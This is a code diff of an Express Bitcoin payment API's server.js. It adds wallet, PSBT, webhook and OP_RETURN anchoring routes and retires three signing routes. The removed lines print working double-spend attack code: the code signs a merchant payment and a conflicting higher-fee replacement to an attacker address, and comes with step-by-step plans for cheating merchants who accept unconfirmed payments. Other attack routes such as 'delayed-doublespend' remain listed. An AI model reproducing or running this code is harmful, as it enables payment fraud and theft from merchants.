@@ -1,30 +1,18 @@
 // server.js
 // Full revised server.js with the apostrophe-safe string change:
 // - Uses double quotes for sequence text that contains an apostrophe
-// - CommonJS-safe ecpair import
-// - bitcoin.initEccLib(ecc) for bitcoinjs-lib v6+
+// - CommonJS-safe ecpair import and initEccLib live in ./lib/ecc
 // - CORS whitelist includes your Vercel frontend domain
-// - Removed ./routes/wallet-gen mounting to avoid conflicts
+// - ./routes/wallet-gen is mounted after the built-in /api/generate-wallet
 // - All dot-space syntax errors fixed
 
 require('dotenv').config();
 const express = require('express');
 const bitcoin = require('bitcoinjs-lib');
-const ecc = require('tiny-secp256k1');
-
-// Required for bitcoinjs-lib v6+
-if (bitcoin.initEccLib) {
-  bitcoin.initEccLib(ecc);
-}
-
-const { BIP32Factory } = require('bip32');
-
-// CommonJS-safe import for ecpair (handles default and named exports)
-const ecpairPackage = require('ecpair');
-const ECPairFactory = ecpairPackage && (ecpairPackage.ECPairFactory || ecpairPackage.default || ecpairPackage);
-const ECPair = typeof ECPairFactory === 'function'
-  ? ECPairFactory(ecc)
-  : (() => { throw new Error('ECPairFactory not found in ecpair package — inspect require("ecpair")'); })();
+const { ECPair, bip32 } = require('./lib/ecc');
+const { NETWORKS } = require('./lib/networks');
+const { taprootPayment } = require('./lib/taproot');
+const { log } = require('./lib/log');
 
 const axios = require('axios');
 const crypto = require('crypto');
@@ -35,9 +23,6 @@ const swaggerUi = require('swagger-ui-express');
 // ---- Initialize Express App ----
 const app = express();
 
-// ---- remaining initialization
-const bip32 = BIP32Factory(ecc);
-
 // =======================
 // SECURITY HEADERS + LOGGING
 // =======================
@@ -47,7 +32,9 @@ const cors = require('cors');
 const compression = require('compression');
 
 app.use(helmet({ crossOriginResourcePolicy: false }));
-app.use(morgan('dev'));
+if (process.env.NODE_ENV !== 'test') {
+  app.use(morgan('dev'));
+}
 app.use(compression());
 app.set('trust proxy', true);
 
@@ -69,7 +56,7 @@ app.use(cors({
       return callback(null, true);
     }
 
-    console.log('❌ BLOCKED ORIGIN:', origin);
+    log('❌ BLOCKED ORIGIN:', origin);
     return callback(new Error('CORS: Not allowed'));
   },
   credentials: true
@@ -79,15 +66,7 @@ app.use(express.json({ limit: '10mb' }));
 app.use(express.urlencoded({ limit: '10mb', extended: true }));
 
 // ======== NETWORK & API CONFIGURATION ========
-const NETWORKS = {
-  testnet: bitcoin.networks.testnet,
-  mainnet: bitcoin.networks.bitcoin,
-};
-
-const MEMPOOL_APIS = {
-  testnet: 'https://mempool.space/testnet/api',
-  mainnet: 'https://mempool.space/api',
-};
+const { feeForTarget, getFeeEstimates } = require('./lib/fees');
 
 // ===============================
 //  GENERATE WALLET HELPERS
@@ -107,31 +86,44 @@ function pickNetworkFromRequest(req) {
   return 'testnet';
 }
 
+// "p2wpkh" (default) or "p2tr" (BIP86 key-path taproot)
+function pickAddressTypeFromRequest(req) {
+  const source = (req.body && req.body.address_type) || (req.query && req.query.address_type);
+  return typeof source === 'string' ? source : 'p2wpkh';
+}
+
+function recommendedPayment(keyPair, addressType, networkName) {
+  if (addressType === 'p2tr') return taprootPayment(keyPair.publicKey, networkName);
+  return bitcoin.payments.p2wpkh({ pubkey: keyPair.publicKey, network: NETWORKS[networkName] });
+}
+
 // ===============================
 //  POST /api/generate-wallet
 // ===============================
-// Accepts JSON body: { "network": "testnet" | "mainnet" }  (optional)
+// Accepts JSON body: { "network": "testnet" | "mainnet" | "regtest" | "signet" }  (optional)
 app.post('/api/generate-wallet', (req, res) => {
-  console.log('🔥 /api/generate-wallet POST hit. Body:', req.body || null);
+  log('🔥 /api/generate-wallet POST hit. Body:', req.body || null);
 
   try {
-    const networkName = pickNetworkFromRequest(req);   // "testnet" | "mainnet"
+    const networkName = pickNetworkFromRequest(req);   // "testnet" | "mainnet" | "regtest" | "signet"
     const net = NETWORKS[networkName] || NETWORKS.testnet;
+    const addressType = pickAddressTypeFromRequest(req);
+    if (addressType !== 'p2wpkh' && addressType !== 'p2tr') {
+      return res.status(400).json({ ok: false, error: 'address_type must be p2wpkh or p2tr' });
+    }
 
     // Use ECPair from ECPairFactory
     const keyPair = ECPair.makeRandom({ network: net });
     const wif = keyPair.toWIF();
 
-    // Native SegWit address (P2WPKH)
-    const payment = bitcoin.payments.p2wpkh({
-      pubkey: keyPair.publicKey,
-      network: net,
-    });
+    // Native SegWit (P2WPKH) or Taproot (P2TR) address
+    const payment = recommendedPayment(keyPair, addressType, NETWORKS[networkName] ? networkName : 'testnet');
 
     return res.json({
       ok: true,
       network: networkName,
       wif,
+      address_type: addressType,
       recommended_address: payment.address,
     });
   } catch (err) {
@@ -147,24 +139,26 @@ app.post('/api/generate-wallet', (req, res) => {
 //  GET /api/generate-wallet  (optional, for quick testing)
 // ===============================
 app.get('/api/generate-wallet', (req, res) => {
-  console.log('🔥 /api/generate-wallet GET hit. Query:', req.query || null);
+  log('🔥 /api/generate-wallet GET hit. Query:', req.query || null);
 
   try {
     const networkName = pickNetworkFromRequest(req);
     const net = NETWORKS[networkName] || NETWORKS.testnet;
+    const addressType = pickAddressTypeFromRequest(req);
+    if (addressType !== 'p2wpkh' && addressType !== 'p2tr') {
+      return res.status(400).json({ ok: false, error: 'address_type must be p2wpkh or p2tr' });
+    }
 
     const keyPair = ECPair.makeRandom({ network: net });
     const wif = keyPair.toWIF();
 
-    const payment = bitcoin.payments.p2wpkh({
-      pubkey: keyPair.publicKey,
-      network: net,
-    });
+    const payment = recommendedPayment(keyPair, addressType, NETWORKS[networkName] ? networkName : 'testnet');
 
     return res.json({
       ok: true,
       network: networkName,
       wif,
+      address_type: addressType,
       recommended_address: payment.address,
     });
   } catch (err) {
@@ -192,20 +186,48 @@ const getSwaggerSpec = () => {
     },
     servers: [{ url: baseUrl, description: 'API Server' }],
     paths: {
-      '/api/final-sequence-attack': { post: { summary: 'Simulate final-sequence and RBF attack', tags: ['Attacks'] } },
       '/api/smart-fee-booster': { post: { summary: 'Fetch smart attack fee strategy', tags: ['Analysis'] } },
       '/api/merchant-targeted-broadcast': { post: { summary: 'Broadcast TX to merchant nodes', tags: ['Broadcast'] } },
       '/api/delayed-doublespend': { post: { summary: 'Schedule delayed double-spend', tags: ['Attacks'] } },
-      '/api/identical-inputs-exploit': { post: { summary: 'Create conflicting TXs', tags: ['Attacks'] } },
       '/api/time-window-exploit': { post: { summary: 'Blueprint of a time-window based exploit', tags: ['Analysis'] } },
       '/api/webhook-vulnerability-scanner': { post: { summary: 'List webhook vulnerabilities', tags: ['Analysis'] } },
-      '/api/execute-full-attack': { post: { summary: 'Full orchestration of a simulated attack', tags: ['Attacks'] } },
       '/api/wallet/add-address': { post: { summary: 'Add address to monitor', tags: ['Wallet'] } },
       '/api/wallet/balance': { get: { summary: 'Get wallet balance', tags: ['Wallet'] } },
       '/api/wallet/utxos': { get: { summary: 'Get UTXOs', tags: ['Wallet'] } },
       '/api/wallet/mempool': { get: { summary: 'Get mempool transactions', tags: ['Wallet'] } },
+      '/api/webhooks': { post: { summary: 'Subscribe a URL to signed tx.detected/confirmed/replaced/reorged webhooks', tags: ['Wallet'] }, get: { summary: 'List webhook subscriptions', tags: ['Wallet'] } },
+      '/api/webhooks/{id}': { get: { summary: 'Webhook subscription and its pending deliveries', tags: ['Wallet'] }, delete: { summary: 'Delete a webhook subscription', tags: ['Wallet'] } },
+      '/api/webhooks/dead-letter': { get: { summary: 'Webhook deliveries that exhausted their retries', tags: ['Wallet'] } },
+      '/api/webhooks/dead-letter/{id}/retry': { post: { summary: 'Requeue a dead-lettered webhook delivery', tags: ['Wallet'] } },
+      '/api/wallet/payments': { get: { summary: 'Incoming payments and their conflict status (pending/conflicted/confirmed/replaced/evicted)', tags: ['Wallet'] } },
+      '/api/wallet/payments/{txid}/check': { post: { summary: 'Re-check an incoming payment for double-spends now', tags: ['Wallet'] } },
+      '/api/stream': { get: { summary: 'Server-Sent Events for followed addresses/wallets (also a WebSocket on the same path)', tags: ['Wallet'] } },
       '/api/generate-wallet': { post: { summary: 'Generate new wallet', tags: ['Wallet'] }, get: { summary: 'Generate new wallet (GET)', tags: ['Wallet'] } },
+      '/api/generate-multisig': { post: { summary: 'Create an m-of-n sortedmulti wallet from cosigner xpubs', tags: ['Wallet'] } },
       '/api/create-opreturn-tx': { post: { summary: 'Create OP_RETURN transaction', tags: ['Transactions'] } },
+      '/api/decode-opreturn': { post: { summary: 'Decode OP_RETURN outputs by txid or raw hex', tags: ['Transactions'] } },
+      '/api/anchor': { post: { summary: 'Aggregate documents into a Merkle root to anchor in one OP_RETURN', tags: ['Transactions'] } },
+      '/api/anchor/{id}': { get: { summary: 'Anchor batch and its on-chain status', tags: ['Transactions'] } },
+      '/api/anchor/{id}/commit': { post: { summary: 'Record the transaction that commits a batch root', tags: ['Transactions'] } },
+      '/api/anchor/proof/{hash}': { get: { summary: 'Stored inclusion proofs for a document hash', tags: ['Transactions'] } },
+      '/api/anchor/verify': { post: { summary: 'Verify a document against its proof and the confirmed anchor tx', tags: ['Transactions'] } },
+      '/api/opreturn/search': { get: { summary: 'Search indexed OP_RETURN payloads by prefix, regex, protocol or height', tags: ['Analysis'] } },
+      '/api/opreturn/index/status': { get: { summary: 'OP_RETURN indexer progress', tags: ['Analysis'] } },
+      '/api/opreturn/index/sync': { post: { summary: 'Run one OP_RETURN indexer pass now', tags: ['Analysis'] } },
+      '/api/fees': { get: { summary: 'Fee estimates by confirmation target (cached, min-relay floored)', tags: ['Analysis'] } },
+      '/api/timelock/address': { post: { summary: 'Create a CLTV/CSV timelocked P2WSH address', tags: ['Transactions'] } },
+      '/api/timelock/status': { get: { summary: 'When the UTXOs of a timelocked address become spendable', tags: ['Transactions'] } },
+      '/api/timelock/spend': { post: { summary: 'Build an unsigned, correctly locktimed/sequenced timelock spend PSBT', tags: ['Transactions'] } },
+      '/api/tx/build': { post: { summary: 'Build an unsigned, coin-selected send PSBT', tags: ['Transactions'] } },
+      '/api/tx/batch': { post: { summary: 'Build one PSBT for a batch of payouts (JSON or CSV)', tags: ['Transactions'] } },
+      '/api/tx/bump-fee': { post: { summary: 'Build a BIP125 fee-bump replacement PSBT', tags: ['Transactions'] } },
+      '/api/tx/cpfp': { post: { summary: 'Build a child-pays-for-parent PSBT for an unconfirmed parent', tags: ['Transactions'] } },
+      '/api/tx/decode': { post: { summary: 'Decode and analyze a raw transaction (hex or txid)', tags: ['Transactions'] } },
+      '/api/psbt/analyze': { post: { summary: 'Inspect a PSBT: fees, signatures, missing data, warnings', tags: ['Transactions'] } },
+      '/api/psbt/combine': { post: { summary: 'Combine externally signed PSBTs', tags: ['Transactions'] } },
+      '/api/psbt/signing-status': { post: { summary: 'Per-input multisig signing progress of a PSBT', tags: ['Transactions'] } },
+      '/api/psbt/finalize': { post: { summary: 'Finalize a signed PSBT', tags: ['Transactions'] } },
+      '/api/psbt/extract': { post: { summary: 'Extract (and optionally broadcast) the final transaction', tags: ['Transactions'] } },
     }
   };
 };
@@ -224,7 +246,7 @@ app.get('/swagger-spec.json', (req, res) => {
 // ======== RATE LIMITING ========
 const limiter = rateLimit({
   windowMs: 10 * 60 * 1000, // 10 minutes
-  max: 20, // 20 requests per window
+  max: Number(process.env.RATE_LIMIT_MAX) || 20, // 20 requests per window
   skipSuccessfulRequests: false,
   message: 'Too many requests, please try again later',
   standardHeaders: true,
@@ -232,120 +254,30 @@ const limiter = rateLimit({
 });
 app.use('/api/', limiter);
 
-// ======== UTILITY FUNCTIONS ========
-function validateAddress(address, net) {
-  try {
-    bitcoin.address.toOutputScript(address, net);
-    return true;
-  } catch (e) {
-    return false;
-  }
-}
-
-function validateWIF(wif, net) {
-  try {
-    ECPair.fromWIF(wif, net);   // use ECPair, not bitcoin.ECPair
-    return true;
-  } catch (e) {
-    return false;
-  }
-}
-
-// ========== FINAL SEQUENCE ATTACK ==========
-app.post('/api/final-sequence-attack', (req, res) => {
-  try {
-    const { wif, utxo, victim_address, attacker_address, network = 'testnet', fee_rate = 15 } = req.body;
-    const net = NETWORKS[network];
-
-    // Defensive input validation
-    if (!wif || !utxo || !victim_address || !attacker_address) {
-      return res.status(400).json({ error: 'Missing required fields: wif, utxo, victim_address, attacker_address' });
-    }
-    if (!validateWIF(wif, net)) {
-      return res.status(400).json({ error: 'Invalid WIF for network' });
-    }
-    if (!validateAddress(victim_address, net) || !validateAddress(attacker_address, net)) {
-      return res.status(400).json({ error: 'Invalid address(es) for network' });
-    }
-
-    const keyPair = ECPair.fromWIF(wif, net);
-
-    // TX1 - appears non-RBF
-    const tx1_fee = Math.ceil(150 * fee_rate);
-    const psbt1 = new bitcoin.Psbt({ network: net })
-      .addInput({
-        hash: utxo.txid,
-        index: utxo.vout,
-        sequence: 0xffffffff,
-        witnessUtxo: {
-          script: bitcoin.address.toOutputScript(victim_address, net),
-          value: utxo.value,
-        },
-      })
-      .addOutput({ address: victim_address, value: utxo.value - tx1_fee });
-    psbt1.signInput(0, keyPair).finalizeAllInputs();
-    const tx1 = psbt1.extractTransaction();
-
-    // TX2 - RBF, higher fee
-    const tx2_fee = Math.ceil(150 * (fee_rate * 1.5));
-    const psbt2 = new bitcoin.Psbt({ network: net })
-      .addInput({
-        hash: utxo.txid,
-        index: utxo.vout,
-        sequence: 0xfffffffe,
-        witnessUtxo: {
-          script: bitcoin.address.toOutputScript(attacker_address, net),
-          value: utxo.value,
-        },
-      })
-      .addOutput({ address: attacker_address, value: utxo.value - tx2_fee });
-    psbt2.signInput(0, keyPair).finalizeAllInputs();
-    const tx2 = psbt2.extractTransaction();
-
-    res.json({
-      attack_type: 'FINAL_SEQUENCE',
-      tx_merchant: {
-        txid: tx1.getId(),
-        hex: tx1.toHex(),
-        destination: victim_address,
-        sequence: "0xffffffff (won't opt-in to RBF)", // <-- SAFE: double quotes used to allow apostrophe
-        fee: tx1_fee,
-        broadcast_target: 'merchant_nodes',
-      },
-      tx_attacker: {
-        txid: tx2.getId(),
-        hex: tx2.toHex(),
-        destination: attacker_address,
-        sequence: '0xfffffffe (RBF enabled)',
-        fee: tx2_fee,
-        broadcast_target: 'mining_pools',
-      },
-      exploit_logic: [
-        'Broadcast merchant TX with non-RBF sequence.',
-        'Merchant sees TX, accepts payment as legit.',
-        'Broadcast new TX (RBF), higher fee > wins mempool > miners confirm.',
-        'TX1 appears in mempool but is replaced, so merchant cheated.',
-      ],
-      merchant_belief: 'Payment received (TX1 in mempool)',
-      reality: 'TX2 confirms, TX1 orphaned.',
-    });
-  } catch (error) {
-    res.status(500).json({ error: error.message });
+// ========== SIGNING ATTACK SIMULATIONS (retired) ==========
+// These signed transactions with a posted private key. The server no longer
+// accepts keys (see routes/timelock.js and /api/create-opreturn-tx), and they
+// have no unsigned mode.
+const RETIRED_SIGNING_ROUTES = ['/api/final-sequence-attack', '/api/identical-inputs-exploit', '/api/execute-full-attack'];
+app.post(RETIRED_SIGNING_ROUTES, (req, res) => {
+  if (req.body && req.body.wif) {
+    return res.status(400).json({ error: 'Private keys are not accepted' });
   }
+  res.status(410).json({ error: 'This simulation signed with a posted private key and has been retired' });
 });
 
 // ========== SMART FEE BOOSTER ==========
 app.post('/api/smart-fee-booster', async (req, res) => {
   try {
     const { network = 'testnet', target_fee_rate = 50 } = req.body;
-    const api = MEMPOOL_APIS[network];
-
-    const feeResponse = await axios.get(`${api}/v1/fees/recommended`, { timeout: 5000 });
-    const fees = feeResponse.data;
+    if (!NETWORKS[network]) {
+      return res.status(400).json({ error: 'Invalid network' });
+    }
+    const { estimates } = await getFeeEstimates(network);
     const current_fees = {
-      fastest: fees.fastestFee,
-      half_hour: fees.halfHourFee,
-      hour: fees.hourFee,
+      fastest: feeForTarget(estimates, 1),
+      half_hour: feeForTarget(estimates, 3),
+      hour: feeForTarget(estimates, 6),
     };
     const smart_fee = Math.max(current_fees.fastest * 1.2, target_fee_rate);
 
@@ -470,88 +402,6 @@ app.post('/api/delayed-doublespend', async (req, res) => {
   }
 });
 
-// ========== IDENTICAL INPUTS EXPLOIT ==========
-app.post('/api/identical-inputs-exploit', (req, res) => {
-  try {
-    const { wif, utxos, merchant_address, attacker_address, network = 'testnet' } = req.body;
-    const net = NETWORKS[network];
-
-    if (!wif || !utxos || !merchant_address || !attacker_address) {
-      return res.status(400).json({ error: 'Missing fields' });
-    }
-    if (!validateWIF(wif, net)) {
-      return res.status(400).json({ error: 'Invalid WIF' });
-    }
-    if (!validateAddress(merchant_address, net) || !validateAddress(attacker_address, net)) {
-      return res.status(400).json({ error: 'Invalid address' });
-    }
-
-    const keyPair = ECPair.fromWIF(wif, net);
-    const transactions = [];
-
-    utxos.forEach((utxo, utxo_idx) => {
-      // TX to merchant
-      const psbt1 = new bitcoin.Psbt({ network: net })
-        .addInput({
-          hash: utxo.txid,
-          index: utxo.vout,
-          sequence: 0xffffffff,
-          witnessUtxo: {
-            script: bitcoin.address.toOutputScript(merchant_address, net),
-            value: utxo.value,
-          }
-        })
-        .addOutput({ address: merchant_address, value: utxo.value - 3000 });
-      psbt1.signInput(0, keyPair).finalizeAllInputs();
-      const tx1 = psbt1.extractTransaction();
-
-      // TX to attacker (RBF)
-      const psbt2 = new bitcoin.Psbt({ network: net })
-        .addInput({
-          hash: utxo.txid,
-          index: utxo.vout,
-          sequence: 0xfffffffe,
-          witnessUtxo: {
-            script: bitcoin.address.toOutputScript(attacker_address, net),
-            value: utxo.value,
-          }
-        })
-        .addOutput({ address: attacker_address, value: utxo.value - 5000 });
-      psbt2.signInput(0, keyPair).finalizeAllInputs();
-      const tx2 = psbt2.extractTransaction();
-
-      transactions.push({
-        utxo_index: utxo_idx,
-        inputs: {
-          shared_txid: utxo.txid,
-          shared_vout: utxo.vout,
-          shared_value: utxo.value
-        },
-        tx_merchant: {
-          txid: tx1.getId(),
-          hex: tx1.toHex(),
-          output: merchant_address,
-          fee: 3000
-        },
-        tx_attacker: {
-          txid: tx2.getId(),
-          hex: tx2.toHex(),
-          output: attacker_address,
-          fee: 5000
-        }
-      });
-    });
-
-    res.json({
-      attack_type: 'IDENTICAL_INPUTS_EXPLOIT',
-      tx_pairs: transactions,
-      result: 'Only one transaction can confirm. Higher-fee TX (to attacker) will win if miners use RBF.',
-    });
-  } catch (error) {
-    res.status(500).json({ error: error.message });
-  }
-});
-
 // ========== TIME WINDOW EXPLOIT COORDINATOR ==========
 app.post('/api/time-window-exploit', (req, res) => {
   try {
@@ -613,99 +463,34 @@ app.post('/api/webhook-vulnerability-scanner', async (req, res) => {
   }
 });
 
-// ========== FULL ATTACK EXECUTION ORCHESTRATION ==========
-app.post('/api/execute-full-attack', async (req, res) => {
-  try {
-    const {
-      wif,
-      utxo,
-      merchant_address,
-      attacker_address,
-      network = 'testnet',
-      merchant_payment_window_minutes = 15,
-    } = req.body;
-
-    if (!wif || !utxo || !merchant_address || !attacker_address) {
-      return res.status(400).json({ error: 'Missing attack parameters' });
-    }
-
-    const net = NETWORKS[network];
-    if (!validateWIF(wif, net)) {
-      return res.status(400).json({ error: 'Invalid WIF' });
-    }
-    if (!validateAddress(merchant_address, net) || !validateAddress(attacker_address, net)) {
-      return res.status(400).json({ error: 'Invalid address' });
-    }
-
-    const keyPair = ECPair.fromWIF(wif, net);
-
-    // Merchant TX
-    const psbt1 = new bitcoin.Psbt({ network: net })
-      .addInput({
-        hash: utxo.txid,
-        index: utxo.vout,
-        sequence: 0xffffffff,
-        witnessUtxo: {
-          script: bitcoin.address.toOutputScript(merchant_address, net),
-          value: utxo.value,
-        },
-      })
-      .addOutput({
-        address: merchant_address,
-        value: utxo.value - 3000,
-      });
-    psbt1.signInput(0, keyPair).finalizeAllInputs();
-    const tx1 = psbt1.extractTransaction();
-
-    // Attacker TX
-    const psbt2 = new bitcoin.Psbt({ network: net })
-      .addInput({
-        hash: utxo.txid,
-        index: utxo.vout,
-        sequence: 0xfffffffe,
-        witnessUtxo: {
-          script: bitcoin.address.toOutputScript(attacker_address, net),
-          value: utxo.value,
-        },
-      })
-      .addOutput({
-        address: attacker_address,
-        value: utxo.value - 5000,
-      });
-    psbt2.signInput(0, keyPair).finalizeAllInputs();
-    const tx2 = psbt2.extractTransaction();
-
-    const tx_delay = merchant_payment_window_minutes * 60 * 1000 + 5000;
-
-    res.json({
-      attack_status: 'READY_FOR_EXECUTION',
-      merchant_window_min: merchant_payment_window_minutes,
-      tx_merchant: { txid: tx1.getId(), hex: tx1.toHex(), sequence: '0xffffffff', fee: 3000 },
-      tx_attacker: { txid: tx2.getId(), hex: tx2.toHex(), sequence: '0xfffffffe', fee: 5000 },
-      orchestrated_plan: [
-        'Step 1: Broadcast TX1 to merchant monitors.',
-        'Step 2: Wait for webhook acknowledgment (~2 seconds).',
-        'Step 3: Check merchant fulfillment status.',
-        'Step 4: After window, broadcast TX2 (to miners).',
-        'Step 5: Monitor for double-spend confirmation.',
-      ],
-      expected: 'Attack will succeed if merchant ships on trust of 0-conf.',
-      caveats: [
-        'Fails if merchant waits for confirmation.',
-        'Merchant watches for conflicts (defensive setup)'
-      ],
-      timeline: {
-        phase1: { delay_ms: 0 },
-        phase2: { delay_ms: 2000 },
-        phase3: { delay_ms: 30000 },
-        phase4: { delay_ms: tx_delay },
-        phase5: { delay_ms: tx_delay + 600 * 1000 }
-      }
-    });
-  } catch (error) {
-    res.status(500).json({ error: error.message });
-  }
-});
+// ======== MOUNTED ROUTERS ========
+// server.js keeps its own /api/generate-wallet, which takes precedence over
+// the one in ./routes/wallet-gen.
+const walletRoutes = require('./routes/wallet-routes');
+const utxoRoutes = require('./routes/utxo-fetch');
+const opreturnRoutes = require('./routes/opreturn-tx');
+const walletGenRoutes = require('./routes/wallet-gen');
+const txRoutes = require('./routes/tx');
+const feeRoutes = require('./routes/fees');
+const timelockRoutes = require('./routes/timelock');
+const anchorRoutes = require('./routes/anchor');
+const opreturnIndexRoutes = require('./routes/opreturn-index');
+const webhookRoutes = require('./routes/webhooks');
+const streamRoutes = require('./routes/stream');
+const { walletEngine } = require('./lib/engine');
+const { getStorage } = require('./lib/storage');
+
+app.use('/api', walletRoutes);
+app.use('/api', utxoRoutes);
+app.use('/api', opreturnRoutes);
+app.use('/api', walletGenRoutes);
+app.use('/api', txRoutes);
+app.use('/api', feeRoutes);
+app.use('/api', timelockRoutes);
+app.use('/api', anchorRoutes);
+app.use('/api', opreturnIndexRoutes);
+app.use('/api', webhookRoutes);
+app.use('/api', streamRoutes);
 
 // Health check endpoint (for Render)
 app.get('/health', (req, res) => {
@@ -760,8 +545,9 @@ app.use((err, req, res, next) => {
 const PORT = process.env.PORT || 10000;
 const NODE_ENV = process.env.NODE_ENV || 'development';
 
-const server = app.listen(PORT, () => {
-  console.log(`
+function startServer(port = PORT) {
+  const server = app.listen(port, () => {
+    console.log(`
 ╔════════════════════════════════════════════════════════════╗
 ║                                                            ║
 ║  🚧 Bitcoin Beast Payment Framework                       ║
@@ -777,23 +563,40 @@ const server = app.listen(PORT, () => {
 ║                                                            ║
 ╚════════════════════════════════════════════════════════════╝
   `);
-});
-
-// Graceful shutdown
-process.on('SIGTERM', () => {
-  console.log('📴 SIGTERM received, shutting down gracefully...');
-  server.close(() => {
-    console.log('✓ Server closed');
-    process.exit(0);
   });
-});
+  // WebSocket clients of /api/stream share the HTTP server
+  streamRoutes.attach(server);
+  walletEngine.startPolling();
+
+  // Graceful shutdown
+  process.on('SIGTERM', () => {
+    console.log('📴 SIGTERM received, shutting down gracefully...');
+    walletEngine.stopPolling();
+    streamRoutes.stream.close();
+    getStorage().close(); // write any batched state
+    server.close(() => {
+      console.log('✓ Server closed');
+      process.exit(0);
+    });
+  });
 
-process.on('SIGINT', () => {
-  console.log('📴 SIGINT received, shutting down gracefully...');
-  server.close(() => {
-    console.log('✓ Server closed');
-    process.exit(0);
+  process.on('SIGINT', () => {
+    console.log('📴 SIGINT received, shutting down gracefully...');
+    walletEngine.stopPolling();
+    streamRoutes.stream.close();
+    getStorage().close(); // write any batched state
+    server.close(() => {
+      console.log('✓ Server closed');
+      process.exit(0);
+    });
   });
-});
+
+  return server;
+}
+
+if (require.main === module) {
+  startServer();
+}
 
 module.exports = app;
+module.exports.startServer = startServer;